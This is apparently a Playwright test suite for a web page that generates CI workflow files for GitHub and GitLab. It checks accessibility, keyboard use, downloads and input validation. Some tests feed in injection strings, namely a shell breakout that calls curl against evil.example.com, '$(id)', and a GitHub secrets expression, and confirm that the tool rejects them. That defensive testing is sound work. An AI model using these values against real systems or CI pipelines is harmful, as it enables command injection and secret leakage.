import AxeBuilder from '@axe-core/playwright';
import { readFileSync } from 'node:fs';
import { expect, test, type Page } from 'playwright/test';

const PAGES = { en: '/tools/adopt/', es: '/es/tools/adopt/' } as const;
const TAGS = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'];

const paths = (page: Page): Promise<string[]> =>
  page.locator('adopt-generator .file summary').allTextContents();
const textOf = (page: Page, path: string): Promise<string | null> =>
  page.locator(`adopt-generator .file[data-path="${path}"] pre`).textContent();
const count = (page: Page) => page.locator('adopt-generator [data-part=count]');

async function open(page: Page, address: string): Promise<void> {
  await page.goto(address);
  // The site's own address stands in the files as soon as the generator runs.
  await expect(page.locator('adopt-generator input[name=site]')).toHaveValue(new URL(page.url()).origin);
}

async function violations(page: Page): Promise<string[]> {
  const { violations: found } = await new AxeBuilder({ page }).setLegacyMode(true).withTags(TAGS).analyze();
  return found.map(({ id, nodes }) => `${id}: ${nodes.map(({ target }) => target.join(' ')).join(', ')}`);
}

for (const [locale, address] of Object.entries(PAGES)) {
  test(`the choice is made by keyboard, changes the files and stays in the address (${locale})`, async ({
    page,
  }) => {
    await open(page, address);
    await expect(count(page)).toHaveText(locale === 'en' ? '7 files for GitHub' : '7 archivos para GitHub');
    expect(await paths(page)).toContain('.github/workflows/coolify-check.yml');

    await page.locator('input[name=platform][value=github]').focus();
    await page.keyboard.press('ArrowRight');
    await expect(page.locator('input[name=platform][value=gitlab]')).toBeChecked();
    await expect(count(page)).toContainText('GitLab');
    expect(await paths(page)).toContain('.gitlab/ci/coolify-playbook.yml');

    // From the platform to the first part, which is turned off.
    await page.keyboard.press('Tab');
    await expect(page.locator('input[name=parts][value=check]')).toBeFocused();
    await page.keyboard.press('Space');
    expect(await textOf(page, '.gitlab/ci/coolify-playbook.yml')).not.toContain('coolify-check:');

    await page.locator('input[name=domain]').focus();
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.type('https://shop.example.com');
    expect(await textOf(page, '.gitlab/ci/coolify-playbook.yml')).toContain(
      "PLAYBOOK_URL: 'https://shop.example.com'",
    );
    // What only GitHub can do stays chosen, in case it is chosen again.
    await expect(page).toHaveURL(
      /#platform=gitlab&parts=annotations%2Cverify%2Ctemplate%2Ceditor&domain=https%3A%2F%2Fshop\.example\.com$/,
    );

    const before = await paths(page);
    await page.reload();
    await expect(count(page)).toContainText('GitLab');
    expect(await paths(page)).toEqual(before);
    await expect(page.locator('input[name=parts][value=check]')).not.toBeChecked();
    await expect(page.locator('input[name=domain]')).toHaveValue('https://shop.example.com');
  });

  test(`axe finds nothing, at first and with everything chosen (${locale})`, async ({ page }) => {
    await open(page, address);
    expect(await violations(page)).toEqual([]);
    const all = 'check,annotations,sarif,verify,template,pre-commit,git-hook,editor';
    await page.emulateMedia({ colorScheme: 'dark' });
    await page.goto(`${address}#parts=${all}&source=npm&path=a`);
    await expect(count(page)).toContainText('9');
    await page.locator('input[name=path]').fill('$(id)');
    await expect(page.locator('#adopt-refused-path')).not.toBeEmpty();
    expect(await violations(page)).toEqual([]);
  });

  test(`the files for GitHub are there without scripts (${locale})`, async ({ browser }) => {
    const context = await browser.newContext({ javaScriptEnabled: false });
    const page = await context.newPage();
    await page.goto(address);
    await expect(page.locator('adopt-generator noscript')).toBeVisible();
    await expect(page.locator('adopt-generator form')).toBeHidden();
    await expect(page.locator('adopt-generator button').first()).toBeHidden();
    expect(await paths(page)).toHaveLength(7);
    expect(await textOf(page, '.github/workflows/coolify-check.yml')).toContain(
      'run: bash scripts/coolify-playbook.sh check',
    );
    expect(await textOf(page, 'scripts/coolify-playbook.sh')).toBe(
      readFileSync('scripts/action/run.sh', 'utf8'),
    );
    await context.close();
  });
}

test('what does not belong into a file is refused, told, and kept out of the address', async ({ page }) => {
  await open(page, PAGES.en);
  const path = page.locator('input[name=path]');
  await path.fill("'; curl evil.example.com #");
  await expect(path).toHaveAttribute('aria-invalid', 'true');
  await expect(page.locator('#adopt-refused-path')).toHaveText(
    'Not used: it has characters that do not belong here.',
  );
  expect(await textOf(page, '.github/workflows/coolify-check.yml')).toContain("PLAYBOOK_PATH: '.'");
  await expect(page).toHaveURL(/\/tools\/adopt\/$/);
  await path.fill('apps/shop');
  await expect(path).toHaveAttribute('aria-invalid', 'false');
  await expect(page.locator('#adopt-refused-path')).toBeEmpty();
  expect(await textOf(page, '.github/workflows/coolify-check.yml')).toContain("PLAYBOOK_PATH: 'apps/shop'");
  // An address made by somebody else is no way around.
  await page.goto(
    `${PAGES.en}#path=${encodeURIComponent('${{ secrets.A }}')}&platform=nowhere&parts=check,nothing`,
  );
  await expect(count(page)).toHaveText('2 files for GitHub');
  expect(await page.locator('adopt-generator [data-part=files]').textContent()).not.toContain('secrets.A');
});

test('each source asks for what it needs', async ({ page }) => {
  await open(page, PAGES.en);
  const shown = (name: string) => page.locator(`adopt-generator input[name=${name}]`);
  await page.getByRole('radio', { name: /npm registry/ }).check();
  await expect(shown('version')).toBeVisible();
  expect(await textOf(page, '.github/workflows/coolify-check.yml')).toContain("'coolify-playbook@latest'");
  await page.getByRole('radio', { name: /Action on GitHub/ }).check();
  await expect(shown('version')).toBeHidden();
  await expect(shown('action')).toBeVisible();
  await shown('action').fill('example/coolify-playbook@v1');
  expect(await textOf(page, '.github/workflows/coolify-check.yml')).toContain(
    'uses: example/coolify-playbook@v1',
  );
  expect(await paths(page)).not.toContain('scripts/coolify-playbook.sh');
  await page.getByRole('radio', { name: 'GitLab' }).check();
  await expect(shown('action')).toBeHidden();
  await expect(page.locator('[data-part=source-action]')).toBeHidden();
  expect(await paths(page)).toContain('scripts/coolify-playbook.sh');
});

test('a file is copied, saved, and all are saved as an archive', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await open(page, `${PAGES.en}#parts=check,git-hook`);
  const path = '.githooks/pre-push';
  const text = await textOf(page, path);
  await page.getByRole('button', { name: `Copy: ${path}` }).click();
  await expect(page.locator('adopt-generator [data-part=notice]')).toHaveText(`${path} copied.`);
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(text);

  const single = page.waitForEvent('download');
  await page.getByRole('button', { name: `Download: ${path}` }).click();
  const saved = await single;
  expect(saved.suggestedFilename()).toBe('pre-push');
  expect(readFileSync(await saved.path(), 'utf8')).toBe(text);

  const whole = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download all as a ZIP' }).click();
  const archive = readFileSync(await (await whole).path());
  expect(archive.readUInt32LE(0)).toBe(0x04034b50);
  for (const name of await paths(page)) expect(archive.includes(name.trim())).toBe(true);
  expect(archive.includes(text ?? '')).toBe(true);
});

test('a file that was unfolded stays so while the choice changes', async ({ page }) => {
  await open(page, PAGES.en);
  const script = page.locator('.file[data-path="scripts/coolify-playbook.sh"]');
  await expect(script).not.toHaveAttribute('open');
  await script.locator('summary').click();
  await page.locator('input[name=parts][value=sarif]').check();
  await expect(script).toHaveAttribute('open');
});

test('a narrow page has no scroll bar of its own, and the package is there', async ({ page, request }) => {
  await page.setViewportSize({ width: 320, height: 800 });
  await open(page, PAGES.es);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  const answer = await request.get('/downloads/coolify-playbook.tgz');
  expect(answer.status()).toBe(200);
  // gzip
  expect((await answer.body()).subarray(0, 2).toString('hex')).toBe('1f8b');
});
